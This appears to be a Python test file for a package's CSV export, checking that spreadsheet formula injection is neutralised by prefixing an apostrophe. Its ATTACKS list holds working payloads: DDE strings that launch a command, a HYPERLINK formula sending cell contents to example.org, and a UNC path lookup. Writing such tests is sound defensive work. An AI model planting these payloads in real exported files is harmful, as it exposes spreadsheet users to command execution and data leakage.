"""What a spreadsheet would compute is marked where it is written, and read back as it was."""

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relviz.items import read_texts
from relviz.readers import load_space
from relviz.readers.formulas import is_formula, marked, unmarked
from relviz.sheet import csv_text

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"see")',
    "+WEBSERVICE(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=A1",
    "\r=A1",
    "\n=A1",
    "  =A1",
    "\u00a0=A1",
    "＝A1",
    "=Σ(1)",
    "='\\\\10.0.0.1\\1\\[1]1'!$1:$1",
    "\tname",
    "-hello",
]
PLAIN = ["-", "--", "=)", "=(", "+", "@", "@_@", "=^.^=", "-_-", "👍🏽", "a=b", "e-mail", "x@y", "", "'tis"]
NUMBERS = ["-5", "+3", "-0.5", "-.5", "-1e-05", "+1.5E+20", "-0.12 ± 0.03"]
TEXTS = st.text(alphabet="'=+-@\t\r\n A1.,\"é＝(±", max_size=8) | st.sampled_from(ATTACKS + PLAIN)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_could_be_computed_is_marked(text: str) -> None:
    assert marked(text) == "'" + text
    assert marked("'" + text) == "''" + text  # or it would be read back as the attack


@pytest.mark.parametrize("text", PLAIN + NUMBERS)
def test_signs_alone_and_numbers_are_as_they_were(text: str) -> None:
    assert marked(text) == text


@given(st.lists(TEXTS, max_size=6))
def test_every_column_is_read_back_as_it_was(texts: list[str]) -> None:
    written = [marked(text) for text in texts]
    assert not any(map(is_formula, written))
    assert unmarked(written) == texts


@given(st.lists(TEXTS.map("'{}".format), max_size=5), st.sampled_from(ATTACKS))
def test_a_column_that_was_not_marked_is_left_alone(texts: list[str], bare: str) -> None:
    assert unmarked([*texts, bare]) == [*texts, bare]


def test_texts_and_ids_of_our_file_come_back_from_it() -> None:
    names = [*ATTACKS, *PLAIN[:-2], "plain"]
    rows = [(row, f"{name}#{row}", name + ".") for row, name in enumerate(names)]
    raw = csv_text(("row", "id", "text"), rows).encode()
    read = read_texts(io.BytesIO(raw), filename="rows.csv", texts="text", ids="id")
    assert list(read.texts) == [text for _, _, text in rows]
    assert list(read.ids or ()) == [name for _, name, _ in rows]


def test_vectors_beside_such_names_stay_numbers() -> None:
    raw = csv_text(("word", "x", "y"), [("=A1", -1.5, 2), ("-b", 0.25, -3)]).encode()
    space = load_space(io.BytesIO(raw), filename="toy.csv")
    assert space.ids == ("=A1", "-b")
    assert space.vectors.tolist() == [[-1.5, 2], [0.25, -3]]
